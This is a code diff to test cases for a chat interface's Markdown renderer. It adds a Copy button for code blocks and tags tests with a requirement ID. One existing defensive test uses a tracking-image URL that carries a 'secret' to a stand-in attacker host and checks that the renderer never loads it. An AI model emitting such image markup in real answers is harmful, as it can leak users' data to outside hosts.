@@ -7,7 +7,7 @@ const html = (text: string) => renderToStaticMarkup(<MarkdownText text={text} />
 /** The elements of a page, each as its start tag; text cannot look like one, since `<` is escaped in it. */
 const tags = (page: string) => page.match(/<[a-z][^>]*>/gi) ?? []
 const allowedTags =
-  /^<(?:div|p|br|strong|em|del|a|span|code|pre|h[1-6]|ul|ol|li|input|blockquote|hr|table|thead|tbody|tr|th|td|section|sup)\b/
+  /^<(?:div|p|br|strong|em|del|a|span|code|pre|h[1-6]|ul|ol|li|input|blockquote|hr|button|table|thead|tbody|tr|th|td|section|sup)\b/
 
 test('an answer is Markdown with line breaks, tables, task lists, strike-through and plain addresses as links [CHT-07]', () => {
   expect(html('one\ntwo')).toContain('one<br/>\ntwo')
@@ -31,7 +31,7 @@ test('a text that cannot be parsed is shown as it is written [CHT-07]', () => {
   expect(html(text)).toBe(`<div class="answer"><p class="raw">${'&gt;'.repeat(20_000)}</p></div>`)
 })
 
-test('a link opens in a new tab without a way back; other schemes are no link', () => {
+test('a link opens in a new tab without a way back; other schemes are no link [CHT-08]', () => {
   expect(html('[go](https://example.org)')).toContain(
     '<a class="link" href="https://example.org" target="_blank" rel="noopener noreferrer">go</a>',
   )
@@ -51,7 +51,7 @@ test('a link opens in a new tab without a way back; other schemes are no link', 
   }
 })
 
-test('a picture of another host is never loaded: a link with the full host stands in its place', () => {
+test('a picture of another host is never loaded: a link with the full host stands in its place [CHT-08]', () => {
   const page = html('![pixel](https://sub.evil.example:8443/p.gif?d=secret)')
   expect(page).not.toContain('<img')
   expect(page).toContain('sub.evil.example:8443')
@@ -60,6 +60,13 @@ test('a picture of another host is never loaded: a link with the full host stand
     '<div class="answer"><p><span>note</span></p></div>',
   )
   expect(html('![ref][1]\n\n[1]: https://evil.example/x.png')).not.toContain('<img')
+})
+
+test('a block of code can be copied [CHT-08]', () => {
+  const page = html('```js\nlet a = 1\n```')
+  expect(page).toContain('<button type="button"')
+  expect(page).toContain('>Copy</button>')
+  expect(page).toContain('let a = 1')
 })
 
 test('whatever the model writes, no script, handler, picture or other scheme comes of it', () => {
